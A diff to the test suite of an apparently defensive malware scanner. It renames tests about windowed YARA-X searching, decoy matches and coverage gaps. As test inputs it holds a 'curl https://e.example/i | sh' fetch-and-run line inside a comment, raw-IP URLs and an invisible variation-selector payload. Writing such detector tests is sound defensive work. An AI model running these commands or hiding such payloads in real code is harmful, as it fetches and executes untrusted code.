@@ -22,7 +22,7 @@ from vscan.providers.offline.checks import CHECKS
 MIB = 1024**2
 
 
-def test_no_pattern_is_slow_in_yara_s_own_opinion() -> None:
+def test_yara_reports_no_pattern_as_slow() -> None:
     compiler = yara_x.Compiler()
     for number, check in enumerate(CHECKS):
         compiler.new_namespace(str(number))
@@ -87,13 +87,13 @@ def test_eight_times_the_text_takes_no_more_than_some_eight_times_as_long(text: 
         for _ in range(2):
             with cpu_s(best):
                 verdict = analyse({name: (text * (size // len(text.encode()) + 1))[:size]})
-        assert all("too many places" in gap for gap in verdict.gap_texts), verdict.gap_texts
+        assert all("too many matches" in gap for gap in verdict.gap_texts), verdict.gap_texts
         spent.append(min(best))
     small, large = spent
     assert large < 24 * max(small, 0.02)
 
 
-def test_thousands_of_decoys_hide_nothing() -> None:
+def test_thousands_of_decoys_hide_no_finding() -> None:
     decoys = "'http://10.0.0.1' " * 10_000
     verdict = analyse({"x.js": decoys + "'http://45.76.12.34'"})
     assert [finding.rule for finding in verdict.findings] == ["raw-ip-address"]
@@ -108,17 +108,17 @@ def test_thousands_of_decoys_hide_nothing() -> None:
     ],
 )
 @pytest.mark.parametrize("found", [False, True])
-def test_decoys_beyond_counting_are_a_gap_whatever_is_found(
+def test_too_many_matches_are_a_gap_whatever_is_found(
     name: str, decoy: str, check: str, *, found: bool
 ) -> None:
     """A finding says nothing of the places that were not looked at; nor does a gap end it."""
     hidden = "".join(chr(0xFE00 + n % 16) for n in b"a payload, harmless")
     verdict = analyse({name: "'http://45.76.12.34' " * found + decoy * 50_001, "z.js": hidden})
-    assert verdict.gap_texts == (f"{name} has too many places to look at for {check}",)
+    assert verdict.gap_texts == (f"{name} has too many matches for the check {check}",)
     assert "invisible-payload" in {finding.rule for finding in verdict.findings}
 
 
-def test_places_that_nothing_depends_on_are_no_gap() -> None:
+def test_too_many_matches_without_a_rule_are_no_gap() -> None:
     """What can be done is held against nobody; and of what is found nothing can be worse."""
     assert analyse({"x.js": '"https://a\n' * 50_001}).gap_texts == ()
     names = "".join(f"_0x{number:06x} " for number in range(60_000))
@@ -144,7 +144,7 @@ class _Impatient:
         return self._scanner.scan(content)
 
 
-def test_what_takes_too_long_is_searched_in_parts(tmp_path: Path) -> None:
+def test_a_window_that_takes_too_long_is_searched_in_parts(tmp_path: Path) -> None:
     """On a busy machine: what is found, and where, is the same."""
     word = "'http://45.76.12.34' "
     text = "".join("x" * number + word for number in range(3000))
@@ -157,9 +157,9 @@ def test_what_takes_too_long_is_searched_in_parts(tmp_path: Path) -> None:
     task = Task("offline", (extension_there,))
     analyser = Analyser(None)
     whole = analyser.ask(task, 0, None)
-    analyser._scanners = {
+    analyser._search.scanners = {
         kind: tuple(cast("yara_x.Scanner", _Impatient(scanner)) for scanner in scanners)
-        for kind, scanners in analyser._scanners.items()
+        for kind, scanners in analyser._search.scanners.items()
     }
     parts = analyser.ask(task, 0, None)
     assert isinstance(whole, Scanned)
@@ -185,7 +185,7 @@ _BEFORE = {
 
 @pytest.mark.parametrize("parts", _BEFORE.values(), ids=_BEFORE)
 @pytest.mark.parametrize("cut", [-1, 0, 1])
-def test_no_border_of_a_window_hides_what_stands_before(
+def test_the_border_of_a_window_hides_no_context_before_it(
     parts: tuple[str, str, str], cut: int
 ) -> None:
     before, after, rule = parts
@@ -195,13 +195,13 @@ def test_no_border_of_a_window_hides_what_stands_before(
     assert finding.line == 2
 
 
-def test_no_border_of_a_window_makes_code_of_a_comment() -> None:
+def test_the_border_of_a_window_does_not_make_code_of_a_comment() -> None:
     line = "// " + "curl https://e.example/i | sh; "
     lines = (line + "\n") * (_BORDER // len(line))
     assert analyse({"x.sh": lines + lines[:MIB]}).findings == ()
 
 
-def test_what_two_windows_see_is_found_once() -> None:
+def test_a_match_in_two_windows_is_one_finding() -> None:
     lead = "//" + "x" * (_BORDER - 1000) + "\n"
     verdict = analyse({"x.js": lead + "'http://45.76.12.34'" + "\n//" + "y" * MIB})
     assert [finding.offset for finding in verdict.findings] == [len(lead) + 5]
@@ -212,7 +212,7 @@ def test_items_beyond_a_limit_are_a_gap() -> None:
     assert list(bounded([1, 2, 3, 4], 2, "more")) == [1, 2, Unexamined("more")]
 
 
-def test_no_check_cuts_what_it_looks_at_by_itself() -> None:
+def test_every_check_stops_early_only_with_a_gap() -> None:
     """``bounded`` says that there was more; ``islice`` does not."""
     for module in Path(checks.__file__).parent.glob("*.py"):
         assert "islice" not in module.read_text("utf-8"), module.name
